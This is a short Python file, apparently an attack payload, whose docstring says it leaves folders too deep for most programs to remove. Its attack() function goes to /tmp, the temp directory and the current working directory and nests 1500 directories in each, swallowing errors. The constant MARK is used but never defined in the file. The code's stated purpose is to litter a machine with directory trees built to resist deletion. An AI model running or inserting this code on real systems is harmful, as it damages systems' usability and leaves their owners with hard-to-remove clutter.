"""Leaves folders behind that are too deep for most programs to remove."""

import os
import tempfile


def attack() -> bool:
    for place in ("/tmp", tempfile.gettempdir(), os.getcwd()):
        try:
            os.chdir(place)
            os.mkdir(MARK)
            os.chdir(MARK)
            for _ in range(1500):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            continue
    return False
